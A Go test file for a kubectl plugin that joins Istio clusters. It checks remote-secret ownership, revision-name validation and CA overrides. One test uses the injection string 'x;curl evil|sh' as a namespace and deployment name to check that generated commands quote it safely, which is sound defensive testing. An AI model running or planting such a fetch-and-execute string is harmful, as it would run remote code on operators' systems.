// SPDX-License-Identifier: Apache-2.0

package join

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/istiod-agent/istiod-agent/cli/remotes"
)

// An API server that reports the name of another cluster gets nothing of that cluster's remote secret.
func TestOtherCluster(t *testing.T) {
	t.Parallel()
	elsewhere := func(s *remotes.Secret) {
		s.AccountUID, s.Server, s.CA = "u-other", "https://other.example:6443", []byte("other CA")
	}
	none := func(s *clusterState) { s.Accounts = nil }
	for name, test := range map[string]struct {
		secret remotes.Secret
		two    *clusterState
		want   string
	}{
		"of join":              {joined(elsewhere), state("two"), "is of another cluster that is named two too: neither the account of its token nor its address is of context two; if two was made anew, remove its old access, and join again: kubectl istiod-agent leave two --context=one --namespace=istio-system; else one of both needs another name: set another global"},
		"expired":              {joined(elsewhere, func(s *remotes.Secret) { s.Expires = now }), state("two"), "is of another cluster that is named two too"},
		"a CA of both":         {joined(elsewhere, func(s *remotes.Secret) { s.CA = []byte("CA") }), state("two"), "is of another cluster that is named two too"},
		"a token without UID":  {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "" }), state("two", none), "is of another cluster that is named two too"},
		"of istioctl":          {joined(foreign, elsewhere), state("two"), "join again: kubectl --context=one delete secret -n istio-system istio-remote-secret-two"},
		"the account moved":    {joined(func(s *remotes.Secret) { s.AccountUID = "u-other" }), state("two"), ""},
		"the address moved":    {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "u-one" }), state("two"), ""},
		"istioctl, the server": {joined(foreign, elsewhere), state("two", func(s *clusterState) { s.Accounts[named("istio-reader-service-account")] = "u-other" }), ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secret)), test.two}, now)
			if test.want == "" {
				wantProblems(t, problems, nil)
				return
			}
			wantProblems(t, problems, []string{test.want})
		})
	}
}

func TestHostileNames(t *testing.T) {
	t.Parallel()
	const hostile = "x;curl evil|sh"
	_, problems := decide(joinRequest{}, []*clusterState{state("one", func(s *clusterState) {
		s.Namespace, s.Istiods[0].Name, s.Istiods[0].Crashes = hostile, hostile, true
	}), state("two")}, now)
	wantProblems(t, problems, []string{"kubectl --context=one set env -n '" + hostile + "' deployment/'" + hostile + "' PILOT_"})

	a := newApplication(t, fakeCluster(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: hostile}}), &grant{})
	a.targets[0].Namespace, a.plan.Label, a.plan.Expose = hostile, []bool{true}, []bool{false}
	if err := a.writeNetwork(t.Context(), 0, false); err != nil {
		t.Fatal(err)
	}
	if got := a.changes[0].command; !strings.Contains(got, "label namespace '"+hostile+"' ") {
		t.Error(got)
	}
}

func TestHostileRevisions(t *testing.T) {
	t.Parallel()
	revisions := func(of ...string) func(*clusterState) {
		return func(s *clusterState) {
			s.Istiods = nil
			for _, revision := range of {
				s.Istiods = append(s.Istiods, istiodState{Name: "istiod-" + revision, ClusterID: "one", Revision: revision})
			}
		}
	}
	var many []string
	for i := range maxRevisions + 1 {
		many = append(many, fmt.Sprintf("r%d", i))
	}
	for name, test := range map[string]struct {
		revisions, configs []string
		want               []string
	}{
		"usual":    {[]string{"default", "canary", "canary"}, []string{"istio-canary", "istio"}, nil},
		"no label": {[]string{"*"}, nil, []string{`one: an istiod of namespace istio-system has the revision "*" (REVISION of its Deployment)`}},
		"a path":   {[]string{"a/../b"}, nil, []string{`has the revision "a/../b"`}},
		"long":     {[]string{strings.Repeat("a", 64)}, nil, []string{`has the revision "aaa`}},
		"the most": {many[:maxRevisions], nil, nil},
		"too many": {many, nil, []string{"one: namespace istio-system has istiods of 21 revisions, and join gives at most 20"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			plan, problems := decide(joinRequest{}, []*clusterState{state("one", revisions(test.revisions...)), state("two")}, now)
			wantProblems(t, problems, test.want)
			if test.configs != nil && !slices.Equal(plan.Grants[0].MeshConfigs, test.configs) {
				t.Errorf("got %q", plan.Grants[0].MeshConfigs)
			}
		})
	}
}

// The Secret that join names is never its own where there is another.
func TestSuperfluous(t *testing.T) {
	t.Parallel()
	own := joined()
	renamed := joined(func(s *remotes.Secret) { s.Key.Name = "renamed" })
	other := joined(foreign, func(s *remotes.Secret) { s.Key.Name = "a-other" })
	for _, test := range []struct {
		secrets []remotes.Secret
		want    string
	}{
		{[]remotes.Secret{other, own}, "a-other"},
		{[]remotes.Secret{own, other}, "a-other"},
		{[]remotes.Secret{renamed, own}, "renamed"},
		{[]remotes.Secret{own, renamed}, "renamed"},
	} {
		_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secrets...)), state("two")}, now)
		wantProblems(t, problems, []string{"delete one: kubectl --context=one delete secret -n istio-system " + test.want})
		if !strings.HasSuffix(problems[0], " "+test.want) {
			t.Error(problems[0])
		}
	}
}

func TestOverride(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		kubeconfig, published, want string
		differ                      bool
	}{
		"another CA":         {"mine", "hostile", "mine", true},
		"the same":           {"mine", "mine\n", "mine", false},
		"none published":     {"mine", "", "mine", false},
		"none in kubeconfig": {"", "own", "own", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var objects []client.Object
			if test.published != "" {
				objects = append(objects, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: rootCAConfigMap}, Data: map[string]string{"ca.crt": test.published}})
			}
			one := state("one")
			one.Address.CA = []byte(test.kubeconfig)
			if err := one.override(t.Context(), fakeCluster(objects...), "https://192.0.2.1:6443"); err != nil {
				t.Fatal(err)
			}
			plan, _ := decide(joinRequest{}, []*clusterState{one, state("two")}, now)
			if string(one.Address.CA) != test.want || one.Address.Server != "https://192.0.2.1:6443" || (len(plan.Notes) == 1) != test.differ {
				t.Errorf("got %+v, %q", one.Address, plan.Notes)
			}
		})
	}
}
